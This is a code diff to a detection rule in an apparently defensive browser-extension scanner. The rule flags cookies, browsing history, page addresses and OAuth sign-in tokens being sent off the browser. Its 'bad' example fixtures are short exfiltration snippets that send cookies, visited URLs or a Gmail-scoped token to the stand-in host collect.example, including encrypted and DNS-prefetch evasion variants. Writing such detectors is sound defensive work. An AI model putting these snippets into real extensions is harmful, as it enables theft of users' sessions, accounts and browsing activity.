@@ -3,17 +3,24 @@ import { hitsOfFlows, milder, sentence, staysHere, type Weight } from '../../flo
 import type { Severity } from '../../../model/finding.ts';
 import type { Flow } from '../../flows/flow.ts';
 import type { SourceKind } from '../../flows/kinds.ts';
+import { manifestOf } from '../../facts/extension/roles.ts';
 import { sample } from '../../flows/sample.ts';
+import { reachOfScope } from '../permissions/account-scope-broad.ts';
 import { defineRule } from '../../rule.ts';
 
 const SEVERITY: Partial<Record<SourceKind, Severity>> = {
   cookies: 'high', history: 'high', bookmarks: 'high', 'browsing-data': 'medium', downloads: 'medium', management: 'medium', tabs: 'medium', navigation: 'medium', 'page-address': 'medium',
 };
 
-function weigh(flow: Flow): Weight | undefined {
+/** Servers of who gave the token out. */
+const ISSUER = /^https:\/\/(?:[\w-]+\.)*(?:google|googleapis|youtube)\.com(?:\/|$)/;
+
+function weigh(flow: Flow, isBroad: boolean): Weight | undefined {
   const { source, sink, unit } = flow;
-  const severity = SEVERITY[source.kind];
-  if (sink.kind !== 'network' || severity === undefined || staysHere(sink.to)) return undefined;
+  // Signing in at one's own server by such a token is common; with it the server can do whatever it was given for.
+  const isToken = source.kind === 'identity' && source.label === 'a sign-in token';
+  const severity = isToken ? (isBroad ? 'high' : 'low') : SEVERITY[source.kind];
+  if (sink.kind !== 'network' || severity === undefined || staysHere(sink.to) || (isToken && ISSUER.test(sink.to ?? ''))) return undefined;
   // What a person asks for in the popup is not done behind their back.
   const asked = (unit.roles.has('popup') && !unit.roles.has('background')) || (source.unit.roles.has('popup') && !source.unit.roles.has('background'));
   const known = sink.to !== undefined && /^(?:https?|wss?):\/\/[^*/]+/.test(sink.to);
@@ -31,7 +38,10 @@ export default defineRule({
   cwe: 'CWE-359',
   why: 'Cookies, history, bookmarks or addresses of visited pages leave the browser. They tell what a person does, and cookies let others sign in as them.',
   remedy: 'Send nothing that is not needed for what the person asked, ask first, and say so in the privacy policy. Never send cookies.',
-  check: (facts) => hitsOfFlows(facts.whole(flowsOf).flows, weigh),
+  check: (facts) => {
+    const isBroad = manifestOf(facts)?.manifest.oauthScopes.some(({ scope }) => reachOfScope(scope) !== undefined) === true;
+    return hitsOfFlows(facts.whole(flowsOf).flows, (flow) => weigh(flow, isBroad));
+  },
   examples: {
     bad: [
       sample({ background: 'chrome.cookies.getAll({}, (all) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(all) }); });' }),
@@ -43,8 +53,14 @@ export default defineRule({
       sample({ background: 'var n=chrome,r=n.cookies;function o(t){var e=btoa(JSON.stringify(t));fetch("https://collect.example/?d="+e)}r.getAll({},(function(t){o(t)}));' }),
       sample({ background: 'class Api { constructor(u) { this.u = u; } send(data) { return fetch(this.u, { method: "POST", body: data }); } } const api = new Api("https://collect.example"); chrome.webNavigation.onCommitted.addListener((d) => { const { url } = d; api.send(JSON.stringify({ url, at: 1 })); });' }),
       sample({ content: 'chrome.runtime.sendMessage({ t: "visit", u: document.URL });', background: 'const ws = new WebSocket("wss://collect.example"); chrome.runtime.onMessage.addListener((m) => { if (m.t === "visit") ws.send(m.u); });' }),
+      sample({ manifest: { oauth2: { client_id: 'x', scopes: ['https://mail.google.com/'] } }, background: 'chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://collect.example/t", { method: "PUT", body: JSON.stringify({ token }) }); });' }),
+      sample({ content: 'chrome.runtime.sendMessage({ t: "seen" });', background: 'async function seal(o) { const iv = crypto.getRandomValues(new Uint8Array(12)); const c = await crypto.subtle.encrypt({ name: "AES-GCM", iv }, key, new TextEncoder().encode(JSON.stringify(o))); return btoa(String.fromCharCode(...new Uint8Array(c))); } chrome.runtime.onMessage.addListener(async (m, sender) => { fetch("https://collect.example/v", { method: "POST", body: await seal({ u: sender.tab.url }) }); });' }),
+      sample({ content: 'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//" + btoa(location.href) + ".collect.example"; document.head.append(l);' }),
     ],
     good: [
+      sample({ manifest: { oauth2: { client_id: 'x', scopes: ['https://mail.google.com/'] } }, background: 'chrome.identity.getAuthToken({}, (token) => { fetch("https://gmail.googleapis.com/gmail/v1/users/me/labels", { headers: { Authorization: "Bearer " + token } }); });' }),
+      sample({ background: 'chrome.runtime.onMessage.addListener((m, sender) => { if (sender.tab.url.startsWith("https://app.example/")) fetch("https://api.example/seen"); });' }),
+      sample({ content: 'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = chrome.runtime.getURL("skin.css") + "?" + location.href; document.head.append(l);' }),
       sample({ background: 'chrome.cookies.getAll({}, (all) => { console.log(all.length); fetch("https://api.example/ping"); });' }),
       sample({ background: 'chrome.tabs.query({}, (tabs) => { fetch("https://api.example/count?n=" + tabs.length); });' }),
       sample({ background: 'chrome.tabs.onUpdated.addListener((id, info, tab) => { if (tab.url === "https://app.example/") fetch("https://api.example/seen"); });' }),
